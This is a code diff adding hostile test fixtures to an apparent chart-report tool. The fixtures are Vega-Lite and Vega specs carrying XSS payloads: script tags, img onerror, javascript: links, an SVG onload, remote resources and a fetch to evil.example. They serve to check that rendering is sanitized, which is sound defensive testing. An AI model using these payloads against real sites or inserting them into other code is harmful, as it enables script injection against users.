@@ -238,3 +238,141 @@ export function fixtureResults(opts: FixtureOptions = {}): Results {
     cases,
   });
 }
+
+/**
+ * The script the hostile fixtures try to run, by every route a spec offers: it marks the page
+ * (and the page that opened it) with `__pwned` and sends a request out.
+ */
+export const HOSTILE_SCRIPT =
+  `window.__pwned=1;try{opener.__pwned=1}catch(e){};fetch("https://evil.example/ping")`;
+const TAG = `<script>${HOSTILE_SCRIPT}</script><img src=x onerror='${HOSTILE_SCRIPT}'>`;
+const REMOTE = "https://evil.example";
+
+const pts = (n = 5) =>
+  Array.from({ length: n }, (_, i) => ({ x: i, y: (i * 7) % 5, u: `${REMOTE}/${i}.png` }));
+const XY = {
+  x: { field: "x", type: "quantitative" },
+  y: { field: "y", type: "quantitative" },
+};
+
+/**
+ * Hostile chart specs: each tries to run {@link HOSTILE_SCRIPT}, load a remote resource or
+ * link out, and each still draws points from inline data (so a sanitized page shows every
+ * chart). Keyed by chart id.
+ */
+export function hostileSpecs(): Record<string, Record<string, unknown>> {
+  return {
+    "embed-options": {
+      $schema: "https://vega.github.io/schema/vega-lite/v6.json",
+      description: `${TAG}\u001b[2J`,
+      data: { values: pts() },
+      mark: "point",
+      encoding: XY,
+      usermeta: {
+        embedOptions: {
+          sourceHeader: TAG,
+          sourceFooter: TAG,
+          config: `${REMOTE}/config.json`,
+          patch: `${REMOTE}/patch.json`,
+          loader: { baseURL: `${REMOTE}/` },
+          actions: true,
+          defaultStyle: `body{background:url(${REMOTE}/css.png)}`,
+          i18n: { SOURCE_ACTION: TAG, PNG_ACTION: TAG },
+          editorUrl: `${REMOTE}/editor`,
+        },
+      },
+    },
+    "remote-data": {
+      layer: [
+        { data: { values: pts() }, mark: "line", encoding: XY },
+        { data: { url: `${REMOTE}/data.json` }, mark: "point", encoding: XY },
+        { data: { url: `${REMOTE}/data.csv`, format: { type: "csv" } }, mark: "bar", encoding: XY },
+      ],
+    },
+    images: {
+      data: { values: pts() },
+      layer: [
+        { mark: "point", encoding: XY },
+        {
+          mark: { type: "image", url: `${REMOTE}/a.png`, width: 20, height: 20 },
+          encoding: { ...XY, url: { field: "u", type: "nominal" } },
+        },
+        {
+          mark: { type: "image", width: 20, height: 20 },
+          encoding: {
+            ...XY,
+            url: {
+              value:
+                `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload='${HOSTILE_SCRIPT}'/>`,
+            },
+          },
+        },
+      ],
+    },
+    links: {
+      title: { text: `links ${TAG}`, href: `javascript:${HOSTILE_SCRIPT}` },
+      data: { values: pts() },
+      mark: { type: "point", href: `javascript:${HOSTILE_SCRIPT}`, cursor: `url(${REMOTE}/c.cur)` },
+      encoding: {
+        ...XY,
+        href: { value: `data:text/html,${TAG}` },
+        fill: { value: `url(${REMOTE}/fill.svg#p)` },
+        tooltip: { value: TAG },
+      },
+      config: { mark: { href: `javascript:${HOSTILE_SCRIPT}` } },
+      params: [{ name: "p", value: 1, bind: { input: "range", min: 0, max: 2, element: "body" } }],
+    },
+    vega: {
+      $schema: "https://vega.github.io/schema/vega/v6.json",
+      description: TAG,
+      width: 200,
+      height: 120,
+      usermeta: { embedOptions: { sourceFooter: TAG } },
+      signals: [{ name: "s", value: 1, bind: { input: "checkbox", element: "head" } }],
+      data: [
+        { name: "table", values: pts() },
+        { name: "remote", url: `${REMOTE}/vega.json` },
+      ],
+      scales: [
+        { name: "x", domain: { data: "table", field: "x" }, range: "width" },
+        { name: "y", domain: { data: "table", field: "y" }, range: "height" },
+      ],
+      marks: [
+        {
+          type: "symbol",
+          from: { data: "table" },
+          encode: {
+            update: {
+              x: { scale: "x", field: "x" },
+              y: { scale: "y", field: "y" },
+              href: { value: `javascript:${HOSTILE_SCRIPT}` },
+            },
+          },
+        },
+        {
+          type: "image",
+          from: { data: "table" },
+          encode: { update: { url: { field: "u" }, width: { value: 10 }, height: { value: 10 } } },
+        },
+      ],
+    },
+  };
+}
+
+/**
+ * A results document carrying {@link hostileSpecs} as its charts (two per case, the last case
+ * one) and hostile text in every label; validated like any results file.
+ */
+export function hostileResults(): Results {
+  const r = fixtureResults({ payload: TAG });
+  const specs = Object.entries(hostileSpecs());
+  const ids = Object.keys(r.cases);
+  ids.forEach((id, i) => {
+    r.cases[id].charts = specs.slice(2 * i, 2 * i + 2).map(([chartId, spec]) => ({
+      id: chartId,
+      title: `${chartId} ${TAG}`,
+      spec,
+    }));
+  });
+  return ResultsSchema.parse(JSON.parse(JSON.stringify(r)));
+}
